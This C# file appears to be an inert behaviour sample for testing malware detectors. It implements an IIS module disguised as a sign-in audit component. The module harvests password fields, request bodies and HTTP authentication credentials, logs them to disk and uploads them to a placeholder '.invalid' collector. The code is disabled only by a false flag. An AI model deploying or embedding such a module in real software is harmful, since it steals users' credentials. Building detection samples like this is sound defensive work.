// Behaviour sample 8 (managed IHttpModule): credential logger with
// exfiltration.
//
// Imitates a sign-in "audit" module: BeginRequest and PostAuthenticateRequest
// are subscribed with method-group delegates; the handlers read form fields
// from a list (txtPwd, passwd, user_secret, Passwd), Request.Params
// ["login_pass"], Request.ServerVariables["AUTH_PASSWORD"] and
// ["AUTH_USER"], and the raw body (Request.InputStream); they append the
// record to a file under ProgramData (File.AppendAllText) and send it with
// WebClient.UploadString from a closure run by ThreadPool.QueueUserWorkItem.
// Varies: no Windows\Temp path, no known log name, no "password" literal,
// egress in a closure.
//
// Inert: everything suspicious is inside `if (Inert.Off)` (static readonly,
// false at run time); the directory does not exist, the host is under the
// reserved .invalid TLD.
using System;
using System.IO;
using System.Net;
using System.Text;
using System.Threading;
using System.Web;

namespace Contoso.Identity.Audit
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    public class SignInAuditModule : IHttpModule
    {
        private static readonly string[] Fields = { "txtPwd", "passwd", "user_secret", "Passwd" };
        private const string Store = @"C:\ProgramData\Contoso\Identity\audit\signin-cache.dat";
        private const string Collector = "https://audit.contoso-identity.invalid/api/v2/collect";

        public void Init(HttpApplication context)
        {
            context.BeginRequest += OnBegin;
            context.PostAuthenticateRequest += OnPostAuthenticate;
        }

        private void OnBegin(object sender, EventArgs e)
        {
            HttpRequest req = ((HttpApplication)sender).Context.Request;
            if (Inert.Off && req.HttpMethod == "POST")
            {
                StringBuilder sb = new StringBuilder();
                foreach (string f in Fields)
                {
                    string v = req.Form[f];
                    if (v != null)
                        sb.Append(f).Append('=').Append(v).Append(';');
                }
                string lp = req.Params["login_pass"];
                if (lp != null)
                    sb.Append(lp);
                if (sb.Length == 0)
                {
                    using (StreamReader r = new StreamReader(req.InputStream))
                        sb.Append(r.ReadToEnd());
                }
                Record(req.ServerVariables["REMOTE_ADDR"] + "|" + sb);
            }
        }

        private void OnPostAuthenticate(object sender, EventArgs e)
        {
            HttpRequest req = ((HttpApplication)sender).Context.Request;
            if (Inert.Off)
            {
                string pw = req.ServerVariables["AUTH_PASSWORD"];
                if (!string.IsNullOrEmpty(pw))
                    Record(req.ServerVariables["AUTH_USER"] + "|" + pw);
            }
        }

        private static void Record(string line)
        {
            File.AppendAllText(Store, DateTime.UtcNow.ToString("o") + "|" + line + Environment.NewLine);
            ThreadPool.QueueUserWorkItem(_ =>
            {
                using (WebClient wc = new WebClient())
                {
                    wc.Headers[HttpRequestHeader.ContentType] = "text/plain";
                    wc.UploadString(Collector, line);
                }
            });
        }

        public void Dispose()
        {
        }
    }
}
